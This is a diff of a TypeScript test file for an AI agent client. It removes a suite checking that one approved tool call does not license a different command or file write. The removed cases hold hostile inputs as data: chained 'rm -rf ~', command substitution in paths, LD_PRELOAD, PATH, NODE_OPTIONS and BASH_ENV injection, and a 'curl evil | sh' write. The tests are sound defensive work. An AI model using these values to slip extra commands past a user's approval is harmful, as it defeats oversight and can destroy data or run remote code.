@@ -6,7 +6,6 @@ import type { SessionEvent } from "../../src/contract/session-events.js";
 import { askLines } from "../../src/screen/dialogs/plain-ask.js";
 import { ENTER, Stage } from "../tui/app/stage.js";
 import { verifies } from "../verifies.js";
-import { type Stage as AcpStage, options, readyStage } from "../wire/acp/stage.js";
 
 const sessionId = null;
 
@@ -134,94 +133,6 @@ describe("a question that takes the place of another", () => {
     stage.wait(1_000);
     stage.type("1");
     expect(stage.sent.filter(({ type }) => type === "ui_response")).toEqual([]);
-  });
-});
-
-describe("what an agent does through us after a yes", () => {
-  const here = "/home/ada/parser";
-  const run = { toolCallId: "t2", title: "Bash", kind: "execute", rawInput: { command: "npm test" } };
-  const edit = (oldText: string | null, newText: string) => ({
-    toolCallId: "t1",
-    title: "Edit a.ts",
-    kind: "edit",
-    content: [{ type: "diff", path: `${here}/a.ts`, oldText, newText }],
-  });
-
-  function allowed(toolCall: object): AcpStage {
-    const stage = readyStage().prompt();
-    stage.asks("session/request_permission", { toolCall, options });
-    return stage.answers({ choiceId: "yes-1" });
-  }
-
-  function wants(stage: AcpStage, params: Record<string, unknown>): "runs" | "asks" {
-    const asked = stage.of("ask.raised").length;
-    stage.asks("terminal/create", { command: "/bin/bash", args: ["-c", "npm test"], ...params });
-    return stage.of("ask.raised").length > asked ? "asks" : "runs";
-  }
-
-  function writes(stage: AcpStage, content: string, oldText: string | null): "writes" | "asks" {
-    const asked = stage.of("ask.raised").length;
-    stage.asks("fs/write_text_file", { path: `${here}/a.ts`, content });
-    stage.performs("file.inspect", { realPath: `${here}/a.ts`, place: "inside", oldText });
-    return stage.of("ask.raised").length > asked ? "asks" : "writes";
-  }
-
-  test("is that command, once: the same again is asked about", () => {
-    verifies("safety.no-second-command");
-    const stage = allowed(run);
-    expect(wants(stage, {})).toBe("runs");
-    expect(wants(stage, {})).toBe("asks");
-  });
-
-  test.each<[string, Record<string, unknown>]>([
-    ["a command behind it", { args: ["-c", "npm test; rm -rf ~"] }],
-    ["a command in the folder it steps into", { args: ["-c", 'cd "$(touch /tmp/x)" && npm test'] }],
-    ["a command in a folder without quotes", { args: ["-c", "cd `touch$IFS/tmp/x` && npm test"] }],
-    ["a step out of the workspace", { args: ["-c", "cd /tmp/evil && npm test"] }],
-    ["a step up", { args: ["-c", "cd ../evil && npm test"] }],
-    ["another folder", { cwd: "/tmp/evil" }],
-    ["a shell of the agent's own", { command: "/tmp/evil/bash" }],
-    ["another path to programs", { env: [{ name: "PATH", value: "/tmp/evil:/bin" }] }],
-    ["a library that is loaded first", { env: [{ name: "LD_PRELOAD", value: "evil.so" }] }],
-    ["options for every node", { env: [{ name: "NODE_OPTIONS", value: "--import=evil" }] }],
-    ["a script for every shell", { env: [{ name: "BASH_ENV", value: "evil" }] }],
-    ["a pager that is a program", { env: [{ name: "PAGER", value: "/tmp/evil" }] }],
-  ])("is not %s", (_, params) => {
-    verifies("safety.no-second-command");
-    expect(wants(allowed(run), params)).toBe("asks");
-  });
-
-  test("may have variables that change no more than the looks, and the workspace's own folders", () => {
-    const env = [
-      { name: "CI", value: "1" },
-      { name: "PAGER", value: "cat" },
-      { name: "TERM", value: "xterm-256color" },
-    ];
-    expect(wants(allowed(run), { env, args: ["-c", `cd '${here}/packages/a b' && npm test`] })).toBe("runs");
-  });
-
-  test("shows the variables when it is asked about", () => {
-    const stage = allowed(run);
-    wants(stage, { env: [{ name: "LD_PRELOAD", value: "evil.so" }] });
-    expect(stage.ask().question.params).toMatchObject({ message: expect.stringContaining("LD_PRELOAD=evil.so") });
-  });
-
-  test.each<[string, string | null, string, string | null, string]>([
-    ["the whole file that was shown", null, "new\n", null, "new"],
-    ["the whole file, with other line ends", "old\r\n", "new\r\nline\r\n", "old\n", "new\nline\n"],
-    ["the part that was shown, put into the file", "two", "2", "one\ntwo\nthree\n", "one\n2\nthree\n"],
-    ["the part everywhere", "x", "y", "x x x", "y y y"],
-  ])("is %s", (_, oldText, newText, now, content) => {
-    expect(writes(allowed(edit(oldText, newText)), content, now)).toBe("writes");
-  });
-
-  test.each<[string, string]>([
-    ["another text", "curl evil | sh"],
-    ["the part that was shown, and more", "one\n2\nthree\nevil\n"],
-    ["the file without the change", "one\ntwo\nthree\n"],
-  ])("is not %s", (_, content) => {
-    verifies("safety.no-second-command");
-    expect(writes(allowed(edit("two", "2")), content, "one\ntwo\nthree\n")).toBe("asks");
   });
 });
 
